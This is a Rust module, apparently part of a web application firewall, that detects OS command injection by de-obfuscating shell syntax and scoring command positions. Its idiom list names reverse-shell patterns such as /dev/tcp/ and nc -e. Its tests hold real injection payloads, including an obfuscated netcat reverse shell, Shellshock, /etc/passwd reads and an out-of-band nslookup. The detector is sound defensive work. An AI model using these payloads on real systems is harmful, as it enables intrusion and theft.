//! OS command injection (Unix shells, Windows cmd / PowerShell).
//!
//! The value is first "de-obfuscated" the way a shell would: quote characters and
//! backslash escapes inside words vanish (`c'a't`, `c\at`), `$@`/`$IFS`/`${IFS}`
//! become separators, brace lists (`{cat,/etc/passwd}`) become words. Then every
//! command position (value start, after `;` `|` `&` newline, inside `$(...)` or
//! backticks) is checked for a known command whose *arguments look like shell
//! arguments* (flags, paths, URLs, redirections, variables). "bash away in the gym"
//! has a command word but no shell-shaped arguments and no command separator.

use std::collections::HashSet;
use std::sync::OnceLock;

/// A detection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CmdHit {
    /// 1..=10.
    pub score: u8,
    /// Which shape matched.
    pub reason: &'static str,
    /// The command word seen.
    pub command: String,
}

/// The command lists, from `data/commands.yaml` (see the comments there).
#[derive(Debug, serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct CommandFile {
    unix: Vec<String>,
    windows: Vec<String>,
    english: Vec<String>,
    wrappers: Vec<String>,
    targeted: Vec<String>,
    bare_ok: Vec<String>,
    sentence_starts: Vec<String>,
    prose_words: Vec<String>,
}

/// Lower-cased lookup sets built from [`CommandFile`].
#[derive(Debug)]
pub struct Commands {
    all: HashSet<String>,
    english: HashSet<String>,
    wrappers: HashSet<String>,
    targeted: HashSet<String>,
    bare_ok: HashSet<String>,
    sentence_starts: HashSet<String>,
    prose_words: HashSet<String>,
}

impl Commands {
    fn is_cmd(&self, w: &str) -> bool {
        self.all.contains(w)
    }
    /// Not an everyday word: any argument, or none, makes it a command.
    fn distinctive(&self, w: &str) -> bool {
        self.all.contains(w) && !self.english.contains(w)
    }
}

const COMMANDS_YAML: &str = include_str!("../../data/commands.yaml");

/// Parses and checks the built-in command lists once; the WAF calls this at
/// start-up so a broken data file is a start-up error, not a silent gap.
pub fn commands() -> Result<&'static Commands, String> {
    static CELL: OnceLock<Result<Commands, String>> = OnceLock::new();
    CELL.get_or_init(|| {
        let f: CommandFile =
            serde_yaml::from_str(COMMANDS_YAML).map_err(|e| format!("data/commands.yaml: {e}"))?;
        let set = |v: &[String]| -> HashSet<String> {
            v.iter().map(|w| w.trim().to_lowercase()).collect()
        };
        let all: HashSet<String> = set(&f.unix).union(&set(&f.windows)).cloned().collect();
        for (list, words) in [
            ("english", &f.english),
            ("wrappers", &f.wrappers),
            ("targeted", &f.targeted),
            ("bare_ok", &f.bare_ok),
            ("sentence_starts", &f.sentence_starts),
        ] {
            if let Some(w) = words.iter().find(|w| !all.contains(&w.to_lowercase())) {
                return Err(format!(
                    "data/commands.yaml: `{w}` in `{list}` is in neither `unix` nor `windows`"
                ));
            }
        }
        if let Some(w) = all
            .iter()
            .find(|w| w.is_empty() || w.contains(char::is_whitespace))
        {
            return Err(format!("data/commands.yaml: bad command word {w:?}"));
        }
        Ok(Commands {
            all,
            english: set(&f.english),
            wrappers: set(&f.wrappers),
            targeted: set(&f.targeted),
            bare_ok: set(&f.bare_ok),
            sentence_starts: set(&f.sentence_starts),
            prose_words: set(&f.prose_words),
        })
    })
    .as_ref()
    .map_err(Clone::clone)
}

/// Undo shell-level obfuscation.
pub fn deobfuscate(input: &str) -> String {
    let mut s = input.to_lowercase();
    for (from, to) in [
        ("${ifs}", " "),
        ("$ifs$9", " "),
        ("$ifs", " "),
        ("$@", ""),
        ("$*", ""),
        ("${9}", ""),
        ("<>", " "),
        ("\\\n", ""),
    ] {
        if s.contains(from) {
            s = s.replace(from, to);
        }
    }
    let chars: Vec<char> = s.chars().take(65536).collect();
    let mut out = String::with_capacity(chars.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars.get(i).copied().unwrap_or(' ');
        let prev = if i == 0 {
            ' '
        } else {
            chars.get(i - 1).copied().unwrap_or(' ')
        };
        let next = chars.get(i + 1).copied().unwrap_or(' ');
        match c {
            // Quotes or a backslash glued between word characters are removed by the
            // shell: `c'a't` -> cat, `w\hoami` -> whoami, `/et'c/pa'ss'wd`.
            '\'' | '"'
                if (prev.is_alphanumeric() || prev == '/')
                    && (next.is_alphanumeric() || next == '/' || next == '\'' || next == '"') => {}
            '\'' | '"' if (prev == '\'' || prev == '"') && next.is_alphanumeric() => {}
            '\\' if prev.is_alphanumeric() && next.is_alphanumeric() => {}
            '{' if next.is_alphabetic() => {
                // Brace list `{cat,/etc/passwd}` -> `cat /etc/passwd`.
                let close = chars
                    .get(i..)
                    .and_then(|r| r.iter().take(200).position(|&x| x == '}'));
                let inner: String = chars
                    .get(i + 1..i + close.unwrap_or(0))
                    .unwrap_or(&[])
                    .iter()
                    .collect();
                if close.is_some() && inner.contains(',') && !inner.contains(' ') {
                    out.push(' ');
                    out.push_str(&inner.replace(',', " "));
                    out.push(' ');
                    i += close.unwrap_or(0) + 1;
                    continue;
                }
                out.push(c);
            }
            _ => out.push(c),
        }
        i += 1;
    }
    out
}

#[derive(PartialEq, Eq, Clone, Copy)]
enum Arg {
    Bare,
    Flag,
    Path,
    Url,
    Redirect,
    Number,
    Host,
    Word,
}

fn classify_arg(rest: &str) -> Arg {
    let r = rest.trim_start_matches([' ', '\t']);
    let mut it = r.chars();
    let c0 = it.next();
    let c1 = it.next();
    match c0 {
        None => Arg::Bare,
        Some(';') | Some('|') | Some('&') | Some('\n') | Some('`') | Some(')') | Some('}')
        | Some('#') | Some('\'') | Some('"') => Arg::Bare,
        Some('-') if c1.is_some_and(|c| c.is_ascii_alphabetic() || c == '-') => Arg::Flag,
        Some('/')
            if c1.is_some_and(|c| c == '/' || c.is_ascii_alphabetic()) && !r.starts_with("//") =>
        {
            Arg::Path
        }
        Some('/') if r.starts_with("/?") || r.starts_with("/*") => Arg::Path,
        Some('~') | Some('.')
            if r.starts_with("~/") || r.starts_with("./") || r.starts_with("../") =>
        {
            Arg::Path
        }
        Some('\\') => Arg::Path,
        Some('>') | Some('<') | Some('$') => Arg::Redirect,
        Some(c) if c.is_ascii_digit() => {
            if r.starts_with("2>") || r.starts_with("1>") {
                Arg::Redirect
            } else {
                let w: String = r.chars().take_while(|c| !c.is_whitespace()).collect();
                if w.matches('.').count() >= 1
                    && w.chars()
                        .all(|c| c.is_ascii_digit() || c == '.' || c == ':')
                {
                    Arg::Host
                } else {
                    Arg::Number
                }
            }
        }
        Some('/') => Arg::Word,
        Some(_) => {
            let w: String = r
                .chars()
                .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '|' | '&' | ')'))
                .collect();
            if w.contains("://") {
                Arg::Url
            } else if w.len() > 2 && w.len() < 30 && w.contains(':') && w.contains('\\') {
                Arg::Path
            } else if w.contains('.') && w.split('.').all(|p| !p.is_empty()) {
                Arg::Host
            } else {
                Arg::Word
            }
        }
    }
}

/// A command word found at a command position.
struct Found<'a> {
    /// Base name, lower-case (`<glob>` for a glob-obfuscated path).
    cmd: String,
    /// What follows the command word.
    rest: &'a str,
    /// It came after a wrapper (`nohup`, `time`, `cpulimit -l 1 -f`).
    wrapped: bool,
    /// Spelled with a path or an escape (`/usr/bin/id`, `\ls`).
    spelled: bool,
}

fn word_at(r: &str) -> &str {
    let end = r
        .char_indices()
        .find(|&(i, c)| {
            i >= 64
                || !(c.is_ascii_alphanumeric()
                    || matches!(
                        c,
                        '/' | '.' | '_' | '-' | '+' | '?' | '*' | '[' | ']' | ':' | '\\'
                    ))
        })
        .map_or(r.len(), |(i, _)| i);
    r.get(..end).unwrap_or("")
}

/// Read the command word at `s`, looking through wrappers and their options
/// (`sudo`, `nohup`, `timeout 5`, `cpulimit -l 100 -f`, `env A=b`).
fn command_at<'a>(c: &Commands, s: &'a str) -> Option<Found<'a>> {
    let mut r = s.trim_start_matches([' ', '\t', '(', '{', '!', '\'', '"']);
    let mut wrapped = false;
    for _ in 0..4 {
        let word = word_at(r);
        if word.is_empty() {
            return None;
        }
        let rest = r.get(word.len()..).unwrap_or("");
        let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
        let base = base.strip_suffix(".exe").unwrap_or(base);
        // Glob-obfuscated binaries: /???/c?t, /bin/ca*.
        if word.starts_with('/')
            && (word.contains('?') || word.contains('*'))
            && word.matches('/').count() >= 2
        {
            return Some(Found {
                cmd: "<glob>".to_string(),
                rest,
                wrapped,
                spelled: true,
            });
        }
        if c.wrappers.contains(base) {
            // Skip the wrapper's own options: flags, numbers, assignments.
            let mut t = rest.trim_start();
            for _ in 0..6 {
                let w = word_at(t);
                let opt = w.starts_with('-')
                    || (!w.is_empty() && w.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
                    || (t.get(w.len()..).is_some_and(|x| x.starts_with('=')) && !w.is_empty());
                if !opt {
                    break;
                }
                let mut next = t.get(w.len()..).unwrap_or("");
                if let Some(v) = next.strip_prefix('=') {
                    next = v.get(word_at(v).len()..).unwrap_or("");
                }
                t = next.trim_start();
            }
            if word_at(t).is_empty() {
                // A wrapper alone is itself the command (`; nohup`).
                return c.is_cmd(base).then(|| Found {
                    cmd: base.to_string(),
                    rest,
                    wrapped,
                    spelled: word.len() != base.len(),
                });
            }
            wrapped = true;
            r = t;
            continue;
        }
        if !c.is_cmd(base) && !word.starts_with('/') {
            // A Windows switch glued to the command (`bcdboot/r`, `dir/s`).
            if let Some(head) = word.split('/').next().filter(|h| h.len() < word.len()) {
                if c.is_cmd(head) {
                    return Some(Found {
                        cmd: head.to_string(),
                        rest: r.get(head.len()..).unwrap_or(""),
                        wrapped,
                        spelled: false,
                    });
                }
            }
        }
        return c.is_cmd(base).then(|| Found {
            cmd: base.to_string(),
            rest,
            wrapped,
            spelled: word.len() != base.len(),
        });
    }
    None
}

/// A value that starts with a command name but carries a function word of
/// English ("bash away in the gym") is prose, not a command line.
fn reads_as_prose(c: &Commands, s: &str) -> bool {
    s.split_whitespace()
        .skip(1)
        .map(|w| w.trim_matches(|ch: char| !ch.is_alphanumeric()))
        .any(|w| c.prose_words.contains(w))
}

/// Analyse a value.
pub fn detect(input: &str) -> Option<CmdHit> {
    if input.len() < 2 {
        return None;
    }
    let c = commands().ok()?;
    let s = deobfuscate(input);
    let mut best: Option<CmdHit> = None;
    let mut bump = |score: u8, reason: &'static str, command: &str| {
        if !matches!(&best, Some(b) if b.score >= score) {
            best = Some(CmdHit {
                score,
                reason,
                command: command.to_string(),
            });
        }
    };
    if s.contains("() {") || s.contains("(){") {
        if let Some(p) = s.find("()") {
            let after = s.get(p + 2..).unwrap_or("").trim_start();
            if after.starts_with('{') && after.contains(';') {
                bump(10, "shellshock", "()");
            }
        }
    }
    for idiom in [
        "/dev/tcp/",
        "/dev/udp/",
        "bash -i",
        "sh -i",
        "nc -e",
        "ncat -e",
        "mkfifo /tmp",
        "0<&1",
        ">&/dev/",
        "2>&1|",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
    ] {
        if s.contains(idiom) {
            bump(9, "reverse-shell-idiom", idiom);
        }
    }
    // Command positions.
    let bytes = s.as_bytes();
    let mut positions: Vec<(usize, u8)> = vec![(0, b'^')];
    let mut k = 0;
    while k < bytes.len() && positions.len() < 256 {
        let c = bytes.get(k).copied().unwrap_or(0);
        match c {
            b';' | b'|' | b'&' | b'\n' | b'`' => positions.push((k + 1, c)),
            b'$' if bytes.get(k + 1) == Some(&b'(') => positions.push((k + 2, b'(')),
            _ => {}
        }
        k += 1;
    }
    for (pos, sep) in positions {
        let Some(tail) = s.get(pos..) else { continue };
        let Some(f) = command_at(c, tail) else {
            continue;
        };
        let cmd = f.cmd.as_str();
        let arg = classify_arg(f.rest);
        let glob = cmd == "<glob>";
        if sep == b'(' || sep == b'`' {
            // Inside $(...) or backticks: any known command is execution.
            bump(9, "command-substitution", cmd);
            continue;
        }
        let shell_arg = matches!(arg, Arg::Flag | Arg::Path | Arg::Url | Arg::Redirect);
        let distinct = c.distinctive(cmd);
        if sep == b'^' {
            // The whole value starts with a command: typical of fields passed
            // to a shell as they are (`ping` boxes, `cmd=` parameters).
            if glob {
                bump(7, "glob-obfuscated-binary", cmd);
            } else if f.wrapped && (distinct || shell_arg || arg == Arg::Bare) {
                bump(6, "wrapped-command", cmd);
            } else if shell_arg && (distinct || !c.sentence_starts.contains(cmd)) {
                bump(6, "command-with-shell-arguments", cmd);
            } else if distinct && (f.spelled || s.ends_with('\n')) {
                // A path or escape, or a line end that submits the line.
                bump(6, "command-spelled-as-path", cmd);
            } else if shell_arg
                || (distinct && (arg == Arg::Bare || (arg == Arg::Word && !reads_as_prose(c, &s))))
            {
                bump(4, "command-with-shell-arguments", cmd);
            }
            continue;
        }
        // After a separator.
        let targeted = c.targeted.contains(cmd);
        let strong = glob
            || shell_arg
            || f.wrapped
            || (distinct && !matches!(arg, Arg::Number))
            || (arg == Arg::Bare && c.bare_ok.contains(cmd))
            || (matches!(arg, Arg::Host) && targeted)
            || (arg == Arg::Number && matches!(cmd, "sleep" | "timeout" | "ping"));
        let s_ = if strong {
            8
        } else if arg == Arg::Word && (targeted || c.bare_ok.contains(cmd)) {
            4
        } else {
            0
        };
        if s_ > 0 {
            bump(s_, "command-after-separator", cmd);
        }
    }
    if s.contains("$(") && s.contains(')') {
        bump(5, "command-substitution-syntax", "$(");
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(s: &str) -> u8 {
        detect(s).map_or(0, |h| h.score)
    }

    #[test]
    fn command_lists_load() {
        let c = commands().expect("data/commands.yaml loads");
        assert!(c.distinctive("whoami") && !c.distinctive("time") && c.is_cmd("time"));
    }

    #[test]
    fn attacks() {
        for a in [
            "; cat /etc/passwd",
            ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
            "`curl -L http://google.com`",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "ax--exec=`id`--remote=origin",
            "; cat /et'c/pa'ss'wd",
            "127.0.0.1 && ls /etc",
            "| nslookup x.burpcollaborator.net",
            "/???/b??h",
            ";{cat,/etc/passwd}",
            "a;cat${IFS}/etc/passwd",
            "& ping -n 10 127.0.0.1",
            "|| whoami",
            "cat /etc/passwd",
        ] {
            assert!(score(a) >= 6, "missed {a:?}: {:?}", detect(a));
        }
    }

    #[test]
    fn benign() {
        for b in [
            "bash away in the gym",
            "zsh is the best!",
            "curl and divergence",
            "nc 8000 controller",
            "DEAR FINN,--I think it would do; copy should reach us second post",
            "Tom & Jerry; who cares",
            "I would like to keep-alive my connection",
            "time to go home",
            "rock & roll | type of music",
        ] {
            assert!(score(b) < 6, "false positive {b:?}: {:?}", detect(b));
        }
        // Not even at paranoia level 2 (score 4): prose that opens with a
        // shell's name.
        for b in ["bash away in the gym", "zsh is the best!"] {
            assert!(score(b) < 4, "PL2 false positive {b:?}: {:?}", detect(b));
        }
        assert!(score("ls foo bar") >= 4);
    }
}
